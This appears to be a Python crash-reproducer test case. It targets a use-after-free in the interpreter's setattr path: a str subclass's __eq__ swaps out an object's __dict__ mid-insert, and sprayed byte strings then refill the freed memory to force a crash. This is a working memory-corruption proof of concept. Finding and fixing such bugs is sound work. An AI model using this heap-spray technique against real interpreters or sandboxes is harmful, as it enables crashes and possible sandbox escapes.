# technique: the generic setattr with a plain name still inserts into the instance dict borrowed: a str-subclass key already in that dict (put there through vars()) answers __eq__ by replacing obj.__dict__, which frees the dict mid-insert; sprayed bytes then fill its keys (a crash, SIGBUS here)
# expect: any
# timeout_s: 5
class Victim:
    pass

class Evil(str):
    armed = False
    def __hash__(self):
        return hash("marker")
    def __eq__(self, other):
        if Evil.armed:
            Evil.armed = False
            object.__setattr__(target, '__dict__', {})
            for i in range(200):
                junk.append(b'\x41' * 239)
        return False

junk = []
target = Victim()
for i in range(40):
    object.__setattr__(target, "a%d" % i, i)   # past the inline values: a real dict
vars(target)[Evil("zzz")] = 1
Evil.armed = True
setattr(target, "marker", 5)
junk.clear()
lists = []
for i in range(1000):
    lists.append([i] * 34)
total = 0
for l in lists:
    total += sum(l)
total
